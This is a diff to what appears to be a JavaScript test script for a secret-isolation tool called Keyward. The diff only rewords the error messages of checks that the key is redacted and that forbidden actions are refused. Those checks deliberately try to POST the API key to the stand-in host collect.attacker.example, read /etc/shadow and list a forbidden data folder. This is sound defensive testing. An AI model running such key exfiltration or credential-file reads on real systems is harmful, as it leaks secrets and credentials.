@@ -15,7 +15,7 @@ async function refusal(work) {
     await work()
     return undefined
   } catch (error) {
-    return String(error.cause?.message ?? error.message).slice(0, 120)
+    return error.code ?? error.message
   }
 }
 
@@ -25,13 +25,13 @@ const answer = await fetch(`${process.env.PAYMENTS_API_URL}/v1/balance`, { heade
 const body = await answer.text()
 tell('call', answer.status === 200 && body.includes('"balance"'), `the API answered ${answer.status}`)
 const echoes = [JSON.parse(body).youSentMe, answer.headers.get('x-echo')]
-tell('redaction', echoes.every((echo) => echo === '[redacted by Keyward]'), `the API repeated the key; what arrived here: ${echoes[0]}`)
+tell('redaction', echoes.every((echo) => echo === '[redacted by Keyward]'), `the API repeated the key; what came back: ${echoes[0]}`)
 
 const elsewhere = await refusal(() => fetch('https://collect.attacker.example/', { method: 'POST', body: key }))
-tell('other-host', elsewhere !== undefined, `another host: ${elsewhere}`)
+tell('other-host', elsewhere !== undefined, elsewhere ? `a call to another host was refused (${elsewhere})` : 'another host was reached')
 const shadow = await refusal(() => readFileSync('/etc/shadow'))
-tell('shadow', shadow !== undefined, `/etc/shadow: ${shadow}`)
+tell('shadow', shadow !== undefined, shadow ? `/etc/shadow cannot be read (${shadow})` : '/etc/shadow was read')
 const data = await refusal(() => readdirSync(process.env.FORBIDDEN_FOLDER))
-tell('data-folder', data !== undefined, `Keyward's data folder: ${data}`)
+tell('data-folder', data !== undefined, data ? `Keyward's data folder cannot be seen (${data})` : "Keyward's data folder was listed")
 
 process.exitCode = failed ? 1 : 0
